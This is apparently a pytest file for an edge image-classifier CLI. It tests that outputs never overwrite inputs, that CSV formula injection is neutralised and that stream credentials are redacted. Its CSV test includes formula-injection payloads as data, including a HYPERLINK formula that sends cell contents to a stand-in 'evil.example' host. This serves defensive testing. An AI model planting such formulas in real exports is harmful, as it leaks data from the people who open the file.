"""Untrusted input on the device (#28 items 3-5): outputs, CSV cells and stream credentials.

``edge-classify`` runs for real (the golden int8 model, real images, a real HTTP
stream on 127.0.0.1 that demands a password); every refusal is one
``edge-classify: error:`` line with a documented exit code and no traceback.
"""

from __future__ import annotations

import base64
import csv
import http.server
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
import urllib.request
from pathlib import Path
from typing import Any, Iterator

import cv2
import numpy as np
import pytest
from edgetl.runtime.__main__ import main
from edgetl.runtime.guard import redact
from edgetl.runtime.session import EXIT_OK, EXIT_SOURCE, EXIT_USAGE

GOLDEN = Path(__file__).resolve().parent / "golden"
PASSWORD = "s3cret-Pa55"


def _fails(capsys: pytest.CaptureFixture, args: list[str], code: int) -> str:
    got = main(args)
    out, err = capsys.readouterr()
    assert got == code, err
    assert "Traceback" not in err and out == ""
    errors = [line for line in err.splitlines() if line.startswith("edge-classify: error:")]
    assert len(errors) == 1, err
    return errors[0][len("edge-classify: error: ") :]


@pytest.fixture
def model(tmp_path: Path) -> Path:
    for name in ("golden_int8.tflite", "golden_int8.json"):
        shutil.copy(GOLDEN / name, tmp_path / name)
    images = tmp_path / "images"
    images.mkdir()
    for path in sorted(GOLDEN.glob("0*.png"))[:3]:
        shutil.copy(path, images / path.name)
    return tmp_path / "golden_int8.tflite"


# --- 3. outputs never overwrite inputs ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "args, why",
    [
        (["--csv", "{card}"], "--csv {card} is the model's card ({card})"),
        (["--csv", "{model}"], "--csv {model} is the model ({model})"),
        (["--summary-json", "{card}"], "--summary-json {card} is the model's card ({card})"),
        (["--csv", "{images}/00_blue.png"], "--csv {images}/00_blue.png is a file of the input folder ({images})"),
        (["--confusion", "{images}/c.png"], "--confusion {images}/c.png would add an input file to the input folder"),
        (
            ["--csv", "{tmp}/o.csv", "--summary-json", "{tmp}/o.csv"],
            "--summary-json {tmp}/o.csv is the same file as --csv",
        ),
        (["--csv", "{tmp}/link.json"], "--csv {tmp}/link.json is the model's card ({card})"),
        (["--csv", "{tmp}/hard.json"], "--csv {tmp}/hard.json is the model's card ({card})"),
        (["--card", "{tmp}/card.json", "--csv", "{tmp}/card.json"], "--csv {tmp}/card.json is the model's card"),
    ],
    ids=[
        "card",
        "model",
        "summary-card",
        "input-image",
        "new-image",
        "two-outputs",
        "symlink",
        "hardlink",
        "card-option",
    ],
)
def test_an_output_that_is_an_input_is_refused(
    capsys: pytest.CaptureFixture, model: Path, tmp_path: Path, args: list[str], why: str
) -> None:
    card = model.with_suffix(".json")
    (tmp_path / "link.json").symlink_to(card)
    os.link(card, tmp_path / "hard.json")
    shutil.copy(card, tmp_path / "card.json")
    names = {"card": card, "model": model, "images": tmp_path / "images", "tmp": tmp_path}
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    argv = ["--model", str(model), "--image", str(tmp_path / "images"), *[a.format(**names) for a in args]]
    message = _fails(capsys, argv, EXIT_USAGE)
    assert message.startswith(why.format(**names)), message
    assert message.endswith("an output may not overwrite an input or another output; choose a path outside the inputs")
    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before


def test_outputs_beside_the_inputs_are_fine(capsys: pytest.CaptureFixture, model: Path, tmp_path: Path) -> None:
    code = main(
        ["--model", str(model), "--image", str(tmp_path / "images"), "--csv", str(tmp_path / "images" / "o.csv"), "-q"]
    )
    assert code == EXIT_OK and (tmp_path / "images" / "o.csv").is_file()  # not an image: the next run skips it


# --- 4. CSV cells that a spreadsheet would run ---------------------------------------------------------------

NAMES = ["=1+1.png", "@SUM(A1).png", "-2+3.png", "\tlead.png", "+cmd.png", "\rcr.png", "'q.png"]
LABELS = ['=HYPERLINK("http://evil.example/?"&A1,"ok")', "@SUM(1)", "+1", "-cmd"]


def test_csv_neutralises_file_names_and_labels_and_keeps_numbers(
    capsys: pytest.CaptureFixture, model: Path, tmp_path: Path
) -> None:
    card = json.loads(model.with_suffix(".json").read_text())
    card["labels"] = LABELS  # labels from a card or metadata someone else wrote
    model.with_suffix(".json").write_text(json.dumps(card))
    folder = tmp_path / "hostile"
    folder.mkdir()
    for name, source in zip(NAMES, sorted(GOLDEN.glob("0*.png")) * 2):
        shutil.copy(source, folder / name)
    out = tmp_path / "out.csv"
    assert main(["--model", str(model), "--image", str(folder), "--csv", str(out), "--top-k", "4", "-q"]) == EXIT_OK
    with open(out, newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle))
    assert len(rows) == len(NAMES)
    text = [cell for row in rows for i, cell in enumerate(row) if i == 0 or header[i].startswith("label")]
    numbers = [cell for row in rows for i, cell in enumerate(row) if header[i].startswith("score")]
    assert not [c for c in text if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert sorted(c[1:] if c[:2] in {"'" + n[0] for n in NAMES[:6]} else c for c in (r[0] for r in rows)) == sorted(
        NAMES
    )
    assert {c[1:] for c in text[1:] if c.startswith("'")} >= set(LABELS) - {"'"}
    assert all(0.0 <= float(n) <= 1.0 for n in numbers)  # our numbers stay numbers


# --- 5. stream credentials never shown -------------------------------------------------------------------------


@pytest.fixture
def stream(tmp_path: Path) -> Iterator[str]:
    """An MJPG video over HTTP on 127.0.0.1 that answers only with the right Basic credentials."""
    clip = tmp_path / "clip.avi"
    writer = cv2.VideoWriter(str(clip), cv2.VideoWriter_fourcc(*"MJPG"), 10, (64, 48))
    for i in range(40):
        writer.write(np.full((48, 64, 3), (i * 6) % 256, np.uint8))
    writer.release()
    body = clip.read_bytes()
    token = "Basic " + base64.b64encode(f"admin:{PASSWORD}".encode()).decode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.headers.get("Authorization") != token:
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="cam"')
                self.end_headers()
                return
            self.send_response(200)
            self.send_header("Content-Type", "video/x-msvideo")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://admin:{PASSWORD}@127.0.0.1:{server.server_address[1]}/clip.avi"
    server.shutdown()


def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_stream_password_is_in_no_output(stream: str, tmp_path: Path) -> None:
    port = _free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "edgetl.runtime", "--model", str(GOLDEN / "golden_int8.tflite"), "--rtsp", stream,
         "--headless", "--serve", f"127.0.0.1:{port}", "--summary-json", str(tmp_path / "s.json")],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        first = process.stdout.readline()  # the first frame: the stream was opened with the password
        deadline, latest = time.monotonic() + 60, ""
        while time.monotonic() < deadline and '"frame"' not in latest:
            try:
                latest = urllib.request.urlopen(f"http://127.0.0.1:{port}/latest.json", timeout=5).read().decode()
            except OSError:
                time.sleep(0.2)
        page = urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5).read().decode()
    finally:
        process.send_signal(signal.SIGINT)
        rest, err = process.communicate(timeout=60)
    shown = stream.replace(f"admin:{PASSWORD}@", "***@")
    assert json.loads(first)["source"] == shown and json.loads(latest)["source"] == shown
    everything = first + rest + err + latest + page + (tmp_path / "s.json").read_text()
    assert PASSWORD not in everything and "admin" not in everything
    assert f"[edge-classify] source: {shown}" in err


def test_a_stream_that_fails_is_named_without_its_password() -> None:
    """The whole stderr, OpenCV's and FFmpeg's own lines included (a subprocess: they write to fd 2)."""
    port = _free_port()  # nothing listens there
    url = f"rtsp://admin:{PASSWORD}@127.0.0.1:{port}/live"
    result = subprocess.run(
        [sys.executable, "-m", "edgetl.runtime", "--model", str(GOLDEN / "golden_int8.tflite"), "--rtsp", url,
         "--headless", "--retries", "0"],
        capture_output=True, text=True, timeout=120, env={k: v for k, v in os.environ.items() if k != "OPENCV_LOG_LEVEL"},
    )  # fmt: skip
    assert result.returncode == EXIT_SOURCE and result.stdout == "" and "Traceback" not in result.stderr
    assert f"edge-classify: error: rtsp://***@127.0.0.1:{port}/live cannot be opened" in result.stderr
    assert PASSWORD not in result.stderr and "admin" not in result.stderr


@pytest.mark.parametrize(
    "text, shown",
    [
        ("rtsp://admin:s3cret@cam.local:554/s", "rtsp://***@cam.local:554/s"),
        ("http://u:p@ss@h/x?a=b@c", "http://***@h/x?a=b@c"),
        ("rtsps://token@h/", "rtsps://***@h/"),
        ("see rtsp://a:b@h1/x and http://c:d@h2/y", "see rtsp://***@h1/x and http://***@h2/y"),
        ("http://host/x@y", "http://host/x@y"),
        ("/dev/video0", "/dev/video0"),
    ],
    ids=["rtsp", "at-in-password", "token-only", "two-urls", "at-in-path", "not-a-url"],
)
def test_redact(text: str, shown: str) -> None:
    assert redact(text) == shown


# --- 9. the runtime's Python API refuses what it cannot use, inside the EdgeTLError family -------------------


@pytest.mark.parametrize(
    "options, message",
    [
        ({"model_path": 5}, "model_path must be a file path, a str or pathlib.Path (got int)"),
        ({"card_path": ["x.json"]}, "card_path must be a file path, a str or pathlib.Path (got list)"),
        ({"num_threads": "4"}, "num_threads (--threads) must be None (all cores) or an integer 1..64 (got '4')"),
        ({"num_threads": 0}, "num_threads (--threads) must be None (all cores) or an integer 1..64 (got 0)"),
        ({"max_results": "3"}, "max_results (--top-k) must be an integer >= 1 (got '3')"),
        ({"score_threshold": float("nan")}, "score_threshold (--threshold) must be a number in [0, 1] (got nan)"),
        ({"verify_checksum": "no"}, "verify_checksum must be True or False (got 'no')"),
    ],
    ids=["model-int", "card-list", "threads-str", "threads-0", "results-str", "threshold-nan", "checksum-str"],
)
def test_classifier_options_refuse_wrong_kinds(options: dict, message: str) -> None:
    from edgetl.errors import EdgeTLError
    from edgetl.runtime import ClassifierOptions
    from edgetl.runtime.errors import ArgumentError

    with pytest.raises(ArgumentError) as caught:
        ClassifierOptions(**{"model_path": str(GOLDEN / "golden_int8.tflite"), **options})
    assert str(caught.value) == message and isinstance(caught.value, (EdgeTLError, ValueError))


@pytest.mark.parametrize(
    "frame, color_order, message",
    [
        ("photo.png", "BGR", "expected an image as a numpy uint8 array (H, W[, 1|3|4]), got str"),
        (None, "BGR", "expected an image as a numpy uint8 array (H, W[, 1|3|4]), got NoneType"),
        (np.zeros((0, 0, 3), np.uint8), "BGR", "expected an (H, W[, 1|3|4]) image with pixels, got shape (0, 0, 3)"),
        (np.zeros((4, 4, 5), np.uint8), "BGR", "expected an (H, W[, 1|3|4]) image with pixels, got shape (4, 4, 5)"),
        (np.zeros((4, 4, 3), np.float32), "BGR", "expected uint8 pixels, got float32"),
        (np.zeros((4, 4, 3), np.uint8), "bgrx", "color_order must be 'BGR' (OpenCV frames) or 'RGB' (got 'bgrx')"),
    ],
    ids=["path", "none", "empty", "five-channels", "float", "colour-order"],
)
def test_classify_refuses_what_is_not_an_image(frame: Any, color_order: str, message: str) -> None:
    from edgetl.errors import EdgeTLError
    from edgetl.runtime import Classifier, ClassifierOptions

    classifier = Classifier(ClassifierOptions(model_path=GOLDEN / "golden_int8.tflite"))  # a Path is fine
    with pytest.raises(EdgeTLError) as caught:
        classifier.classify(frame, color_order)
    assert str(caught.value).startswith(message)


def test_runtime_errors_are_one_family_with_the_toolchains() -> None:
    from edgetl import errors
    from edgetl.runtime import errors as runtime_errors
    from edgetl.runtime.interpreter import ModelLoadError, RuntimeMissingError
    from edgetl.runtime.model_card import CardError
    from edgetl.runtime.sources import SourceError

    assert errors.EdgeTLError is runtime_errors.EdgeTLError
    for kind in (CardError, ModelLoadError, RuntimeMissingError, SourceError, runtime_errors.ArgumentError):
        assert issubclass(kind, errors.EdgeTLError)


@pytest.mark.parametrize("option", [["--top-k", "0"], ["--threshold", "2"]], ids=["top-k-0", "threshold-2"])
def test_classifier_option_out_of_range_is_a_usage_line(capsys: pytest.CaptureFixture, option: list[str]) -> None:
    message = _fails(
        capsys,
        ["--model", str(GOLDEN / "golden_int8.tflite"), "--image", str(GOLDEN), "--headless", *option],
        EXIT_USAGE,
    )
    assert message.startswith(("max_results (--top-k)", "score_threshold (--threshold)"))
